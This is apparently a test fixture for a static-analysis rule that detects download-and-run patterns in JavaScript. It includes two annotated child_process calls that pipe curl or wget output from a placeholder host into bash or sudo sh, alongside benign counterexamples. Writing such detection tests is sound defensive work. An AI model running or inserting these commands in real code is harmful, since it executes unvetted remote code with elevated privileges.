const { execSync, exec } = require('child_process');
// ruleid: js-download-and-run
execSync('curl -sSL https://example.com/install.sh | bash');
// ruleid: js-download-and-run
exec('wget -qO- http://example.com/x | sudo sh', done);
// ok: js-download-and-run
execSync('curl -sSLO https://example.com/tool.tgz');
// ok: js-download-and-run
execSync('ls | sh-wc');
